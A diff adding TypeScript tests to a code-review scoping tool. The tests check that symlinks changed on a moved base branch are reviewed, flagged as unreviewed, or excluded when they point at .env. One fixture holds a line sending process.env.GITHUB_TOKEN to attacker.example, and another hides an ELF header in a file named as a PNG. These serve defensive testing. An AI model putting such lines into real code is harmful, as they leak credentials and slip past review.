@@ -3727,6 +3727,89 @@ describe("#535 the attributes of the base tip a pull request merges into count a
   });
 });
 
+describe('#552 links the base tip gained after the branch forked are the merge’s links: reach, secret links and reviewed ends are decided in it too', () => {
+  /** A base commit with `base`, a branch `pr` with `change`, then the base tip (branch `tip`) with `tip`; checked out at `pr`. */
+  function forkedBefore(base: (repo: string) => void, change: (repo: string) => void, tip: (repo: string) => void): string {
+    const repo = emptyRepo();
+    write(repo, '.gitignore', '_bmad-output/\n');
+    write(repo, 'src/a.js', 'export const a = 1;\n');
+    base(repo);
+    commitAll(repo, 'base');
+    git(repo, 'switch', '-q', '-c', 'pr');
+    write(repo, 'src/a.js', 'export const a = 2;\n');
+    change(repo);
+    commitAll(repo, 'the change');
+    git(repo, 'switch', '-q', '-c', 'tip', 'HEAD~1');
+    tip(repo);
+    commitAll(repo, 'the base tip moves on');
+    git(repo, 'switch', '-q', 'pr');
+    return repo;
+  }
+
+  it('#552 an --exclude’d edit a link only the base tip holds runs under a reviewed name (src/plugins -> ../docs/plugins): selected, and the gate derives the same', async () => {
+    const repo = forkedBefore(
+      (r) => write(r, 'docs/plugins/index.js', 'export default {};\n'),
+      (r) => write(r, 'docs/plugins/index.js', 'fetch("https://attacker.example/?t=" + process.env.GITHUB_TOKEN);\n'),
+      (r) => link(r, 'src/plugins', '../docs/plugins'),
+    );
+    const sealed = await seal(repo, ['--base', 'tip', '--exclude', 'docs/**']);
+    expect(sealed.files.map((f) => f.path)).toEqual(['docs/plugins/index.js', 'src/a.js']);
+    answer(repo, [], ['src/a.js']);
+    expect((await gate(repo, {}, prEvent(repo, 'tip'))).outputs.verdict).toBe('incomplete');
+    answer(repo);
+    expect((await gate(repo, {}, prEvent(repo, 'tip'))).outputs.verdict).toBe('clean');
+  });
+
+  it('#552 a new link whose end the base tip made a link to vendored code: unreviewedTarget, the gate incomplete', async () => {
+    const repo = forkedBefore(
+      (r) => (write(r, 'lib/helpers/index.js', 'export const h = 1;\n'), write(r, 'vendor/pkg/index.js', 'module.exports = 1;\n')),
+      (r) => link(r, 'src/helpers', '../lib/helpers'),
+      (r) => (git(r, 'rm', '-rq', 'lib/helpers'), link(r, 'lib/helpers', '../vendor/pkg')),
+    );
+    const sealed = await seal(repo, ['--base', 'tip']);
+    expect(sealed.files.find((f) => f.path === 'src/helpers')).toMatchObject({ kind: 'symlink', unreviewedTarget: true });
+    answer(repo);
+    expect((await gate(repo, {}, prEvent(repo, 'tip'))).outputs.verdict).toBe('incomplete');
+  });
+
+  it('#552 a new link whose end the base tip made a link to .env: a secret link, never selected', async () => {
+    const repo = forkedBefore(
+      (r) => (write(r, 'config/app.json', '{}\n'), write(r, '.env', 'TOKEN=x\n')),
+      (r) => link(r, 'public/config.json', '../config/app.json'),
+      (r) => (git(r, 'rm', '-q', 'config/app.json'), link(r, 'config/app.json', '../.env')),
+    );
+    const sealed = await seal(repo, ['--base', 'tip']);
+    expect(sealed.files.map((f) => f.path)).toEqual(['src/a.js']);
+    expect(sealed.excluded).toContainEqual(expect.objectContaining({ path: 'public/config.json', reason: 'secret', link: true }));
+  });
+});
+
+describe('#553 a link to an unchanged file no agent can read is a person’s, as the file would be were it changed', () => {
+  it.each([
+    ['an ELF kept as assets/logo.png', Buffer.from('7f454c4602010100000000000000000002003e00fffe0001', 'hex')],
+    ['UTF-16 text with its BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('echo pwned\n', 'utf16le')])],
+  ])(
+    '#553 a new link to %s: unreviewedTarget, the gate incomplete; one to unchanged readable code stays reviewed',
+    async (_what, bytes) => {
+      const repo = emptyRepo();
+      write(repo, '.gitignore', '_bmad-output/\n');
+      write(repo, 'assets/logo.png', bytes);
+      write(repo, 'lib/tool.js', 'export const t = 1;\n');
+      commitAll(repo, 'base');
+      link(repo, 'src/tool', '../assets/logo.png');
+      link(repo, 'src/readable', '../lib/tool.js');
+      commitAll(repo, 'the change');
+      const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+      expect(r.code, r.stderr).toBe(0);
+      const files = readScope(repo).files;
+      expect(files.find((f) => f.path === 'src/tool')).toMatchObject({ kind: 'symlink', unreviewedTarget: true });
+      expect(files.find((f) => f.path === 'src/readable')).not.toHaveProperty('unreviewedTarget');
+      answer(repo);
+      expect((await gate(repo, {}, prEvent(repo, 'HEAD~1'))).outputs.verdict).toBe('incomplete');
+    },
+  );
+});
+
 describe('#461 a tracked file whose name is not UTF-8, under a clean conversion, is never left out of the working tree check', () => {
   it('#461 a CR-only edit to `src/caf\\xe9.sh` under core.autocrlf: the working-tree scope is refused in one line naming it, never sealed without it', async () => {
     const repo = makeCartRepo();
